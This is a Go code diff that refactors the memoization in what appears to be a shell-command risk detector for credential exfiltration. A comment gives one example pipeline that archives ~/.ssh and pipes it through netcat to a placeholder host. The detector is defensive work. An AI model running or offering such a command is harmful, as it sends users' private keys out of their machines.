@@ -83,7 +83,7 @@ func readsCredential(c Command, env paths.Env) bool {
 // exfil finds credentials that flow into a command that talks to the
 // network: tar czf - ~/.ssh | nc host 9000.
 func (k *Knowledge) exfil(out []risk.Finding, fl *flows, cred []bool) []risk.Finding {
-	var m *memo
+	var m memo
 	for i, c := range fl.cmds {
 		if len(c.Args) == 0 || c.Dynamic[0] {
 			continue
@@ -260,39 +260,42 @@ func (k *Knowledge) flow(out []risk.Finding, fl *flows, i int, name string) []ri
 // property. Answers are memoized, so a long pipeline costs linear time.
 type flows struct {
 	cmds             []Command
-	download, decode *memo
+	download, decode memo // nil until built
 }
 
-// memo is one property's answers: is[j] says whether command j itself has
-// it; up[j] is the nearest command upstream of j that has it (-1 none,
-// -2 not yet known, -3 being computed).
-type memo struct {
-	is []bool
-	up []int
+// memo is one property's answers, by command: one allocation for them all.
+type memo []memoCell
+
+// memoCell is the answers for command j: is says whether it has the
+// property itself; up is the nearest command upstream of it that has it
+// (-1 none, -2 not yet known, -3 being computed).
+type memoCell struct {
+	is bool
+	up int
 }
 
-func newMemo(n int, is func(j int) bool) *memo {
-	m := &memo{is: make([]bool, n), up: make([]int, n)}
-	for j := range n {
-		m.is[j], m.up[j] = is(j), -2
+func newMemo(n int, is func(j int) bool) memo {
+	m := make(memo, n)
+	for j := range m {
+		m[j] = memoCell{is: is(j), up: -2}
 	}
 	return m
 }
 
 // upstream returns a command feeding command i (directly or through
 // others) that has the property, or -1.
-func (fl *flows) upstream(i int, m *memo) int {
-	switch m.up[i] {
+func (fl *flows) upstream(i int, m memo) int {
+	switch m[i].up {
 	case -2:
 	case -3:
 		return -1 // a cycle: nothing new on it
 	default:
-		return m.up[i]
+		return m[i].up
 	}
-	m.up[i] = -3
+	m[i].up = -3
 	found := -1
 	for _, j := range fl.cmds[i].Inputs {
-		if m.is[j] {
+		if m[j].is {
 			found = j
 			break
 		}
@@ -301,7 +304,7 @@ func (fl *flows) upstream(i int, m *memo) int {
 			break
 		}
 	}
-	m.up[i] = found
+	m[i].up = found
 	return found
 }
 
